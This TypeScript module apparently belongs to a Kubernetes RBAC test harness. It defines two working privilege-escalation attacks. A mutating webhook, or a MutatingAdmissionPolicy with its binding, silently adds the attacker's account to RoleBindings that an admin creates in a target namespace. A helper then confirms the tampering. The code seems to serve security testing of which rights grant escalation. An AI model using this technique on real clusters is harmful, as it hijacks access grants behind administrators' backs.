/** Changing objects of others on their way in: what they write then gives rights to the attacker. */
import { binding, subject } from '../../support/rbac.ts';
import { eventually } from '../harness.ts';
import { type Attack, cluster, me } from './attack.ts';
import { type Attacker, RBAC_API } from './stage.ts';
import { startWebhook } from './webhook.ts';

const ADMISSION = 'admissionregistration.k8s.io';

export const admissionAttacks: readonly Attack[] = [
  {
    slug: 'write-mutating-webhooks',
    rights: [cluster('create', `${ADMISSION}/mutatingwebhookconfigurations`)],
    attack: async (attacker) => {
      const { actor, stage } = attacker;
      const webhook = await startWebhook([{ op: 'add', path: '/subjects/-', value: me(attacker) }]);
      try {
        const name = `${stage.id}-${attacker.name}`;
        await actor('POST', `/apis/${ADMISSION}/v1/mutatingwebhookconfigurations`, {
          apiVersion: `${ADMISSION}/v1`,
          kind: 'MutatingWebhookConfiguration',
          metadata: { name },
          webhooks: [
            {
              name: 'attack.example.org',
              clientConfig: webhook.clientConfig,
              rules: [{ ...bindingsOf, operations: ['CREATE'] }],
              namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': stage.vault } },
              failurePolicy: 'Ignore',
              sideEffects: 'None',
              admissionReviewVersions: ['v1'],
            },
          ],
        });
        await untilChanged(attacker);
      } finally {
        webhook.close();
      }
      return actor;
    },
  },
  {
    slug: 'write-mutating-policies',
    rights: [
      cluster('create', `${ADMISSION}/mutatingadmissionpolicies`),
      cluster('create', `${ADMISSION}/mutatingadmissionpolicybindings`),
    ],
    attack: async (attacker) => {
      const { actor, stage } = attacker;
      const name = `${stage.id}-${attacker.name}`;
      const head = { apiVersion: `${ADMISSION}/v1`, metadata: { name } };
      const { kind, name: account, namespace } = me(attacker);
      const value = `Object.subjects{kind: "${kind}", name: "${account}", namespace: "${namespace}"}`;
      await actor('POST', `/apis/${ADMISSION}/v1/mutatingadmissionpolicies`, {
        ...head,
        kind: 'MutatingAdmissionPolicy',
        spec: {
          matchConstraints: {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': stage.vault } },
            resourceRules: [{ ...bindingsOf, operations: ['CREATE'] }],
          },
          failurePolicy: 'Ignore',
          reinvocationPolicy: 'Never',
          mutations: [
            {
              patchType: 'JSONPatch',
              jsonPatch: { expression: `[JSONPatch{op: "add", path: "/subjects/-", value: ${value}}]` },
            },
          ],
        },
      });
      await actor('POST', `/apis/${ADMISSION}/v1/mutatingadmissionpolicybindings`, {
        ...head,
        kind: 'MutatingAdmissionPolicyBinding',
        spec: { policyName: name },
      });
      await untilChanged(attacker);
      return actor;
    },
  },
];

const bindingsOf = {
  apiGroups: ['rbac.authorization.k8s.io'],
  apiVersions: ['v1'],
  resources: ['rolebindings'],
};

/** Somebody else binds somebody else, again and again, until what is written is not what was sent. */
async function untilChanged({ name, stage }: Attacker): Promise<void> {
  const { admin } = stage.actors;
  let tries = 0;
  await eventually('a binding that was changed on its way in', async () => {
    const innocent = `${name}-innocent-${tries++}`;
    const sent = binding(`${stage.vault}/${innocent}`, 'Role/reader', subject('user:auditor'));
    const { subjects } = await admin('POST', `${RBAC_API}/namespaces/${stage.vault}/rolebindings`, sent);
    return JSON.stringify(subjects).includes(`"${name}"`);
  });
}
